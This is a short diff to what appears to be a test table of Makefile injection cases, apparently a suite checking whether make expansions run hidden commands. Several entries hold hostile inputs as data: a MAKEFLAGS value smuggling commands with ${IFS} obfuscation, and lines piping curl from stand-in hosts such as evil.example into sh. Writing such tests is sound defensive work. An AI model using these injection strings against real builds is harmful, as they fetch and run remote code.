@@ -84,7 +84,8 @@ ATTACKS = {
     ".SECONDEXPANSION runs a $$(shell) of a prerequisite": [
         ("Makefile", ".SECONDEXPANSION:\nall: $$(shell touch marker)\n\t@echo hi\n"), "make"],
     "a command-line value in MAKEFLAGS, echoed by a recipe": [
-        ("Makefile", "all:\n\t@echo $(MAKEFLAGS)\n"), "make 'X=1;touch${IFS}marker;curl${IFS}-s${IFS}http://e.example/x|sh'"],
+        ("run.sh", f"#!/bin/sh\n{P}\n"), "chmod +x run.sh", ("Makefile", "all:\n\t@echo $(MAKEFLAGS)\n"),
+        "make 'X=1;./run.sh'"],
     "an @ the expansion uncovers": [("Makefile", "X = @curl -s http://evil.example/x | sh\nall:\n\t@touch marker\n"
                                                  "\t$(X)\n"), "make"],
 }
